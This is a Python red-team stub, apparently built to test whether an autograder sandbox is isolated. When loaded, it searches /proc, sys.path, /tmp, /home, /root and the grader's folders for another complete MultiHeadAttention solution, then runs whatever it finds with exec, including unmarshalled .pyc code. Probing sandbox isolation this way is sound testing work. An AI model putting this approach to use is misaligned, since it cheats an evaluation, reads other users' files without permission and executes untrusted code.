"""Red team (issue 26, basic mode reads): a stub that hunts for a complete solution anywhere the worker's
uid can read, starting from places it learns rather than guesses: the grader package's folder and its
parents, sys.path, /proc/self/cwd and every /proc/<pid>/cwd, root and exe, the folders named in other
processes' command lines (a class folder, --out, --roster), /tmp, /var/tmp, /home, /root, /opt, /srv,
/work and /autograder. It reads .py, .ipynb, .pyc (unmarshalled and run), .zip members and .git loose
objects, and runs the first complete MultiHeadAttention it finds. Within 4 seconds.

base: stub
class: 6
run: main
"""

import json as _json
import marshal as _marshal
import os as _os
import sys as _sys
import time as _time
import zipfile as _zipfile
import zlib as _zlib

_MARK = "_rteam_hunt_marker"
_DEADLINE = _time.monotonic() + 4.0
_SEEN = [0]


def _complete(text):
    return ("class MultiHeadAttention(" in text and "is not implemented yet" not in text and _MARK not in text
            and "NotImplementedError" not in text.split("class MultiHeadAttention(")[1][:3000])


def _notebook(text):
    cells = _json.loads(text)["cells"]
    return "\n".join("".join(cell.get("source", "")) for cell in cells if cell.get("cell_type") == "code")


def _try(path):
    """Source (str) or code object of a complete solution in `path`, or None."""
    _SEEN[0] += 1
    try:
        if path.endswith(".pyc"):
            with open(path, "rb") as stream:
                code = _marshal.loads(stream.read(2_000_000)[16:])
            return code if "MultiHeadAttention" in code.co_names and _MARK not in code.co_names else None
        with open(path, "rb") as stream:
            raw = stream.read(5_000_000)
        if "/.git/objects/" in path:
            raw = _zlib.decompress(raw).split(b"\0", 1)[-1]
        if path.endswith(".zip"):
            with _zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    if name.endswith((".py", ".ipynb")):
                        text = archive.read(name).decode(errors="replace")
                        text = _notebook(text) if name.endswith(".ipynb") else text
                        if _complete(text):
                            return text
            return None
        text = raw.decode(errors="replace")
        if path.endswith(".ipynb"):
            text = _notebook(text)
        return text if _complete(text) else None
    except Exception:  # noqa: BLE001 - unreadable or not what it seemed
        return None


def _starts():
    places = []
    try:
        import grader as _grader

        folder = _os.path.dirname(_os.path.abspath(_grader.__file__))
        places += [_os.path.dirname(folder), _os.path.dirname(_os.path.dirname(folder))]
    except Exception:  # noqa: BLE001
        pass
    places += [path for path in _sys.path if path]
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for link in ("cwd", "root", "exe"):
            try:
                target = _os.readlink(f"/proc/{pid}/{link}")
                places.append(target if link != "exe" else _os.path.dirname(target))
            except OSError:
                pass
        try:
            words = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        for word in words:
            word = word.decode(errors="replace")
            if word.startswith("/"):
                places += [word, _os.path.dirname(word), _os.path.dirname(_os.path.dirname(word))]
    places += ["/autograder", "/tmp", "/var/tmp", "/home", "/root", "/opt", "/srv", "/work"]
    seen, ordered = set(), []
    for place in places:
        if place not in seen and _os.path.isdir(place):
            seen.add(place)
            ordered.append(place)
    return ordered


def _hunt():
    for start in _starts():
        for folder, folders, files in _os.walk(start):
            if _time.monotonic() > _DEADLINE:
                return None, None
            folders[:] = [name for name in folders if name not in ("site-packages", "dist-packages", "proc", "sys")
                          and folder.count("/") < 9]
            for name in files:
                if name.endswith((".py", ".ipynb", ".pyc", ".zip")) or "/.git/objects/" in folder + "/":
                    found = _try(_os.path.join(folder, name))
                    if found is not None:
                        return _os.path.join(folder, name), found
    return None, None


class _AtLoad:
    _where, _found = _hunt()
    if _found is not None:
        exec(_found if not isinstance(_found, str) else compile(_found, "found", "exec"), globals())
    _report = f"RTEAM r_hunt_solution ran: read {_SEEN[0]} files, found {_where}"


def dot_product_variance(dim, num_trials=1000, seed=0):
    raise RuntimeError(_AtLoad._report)
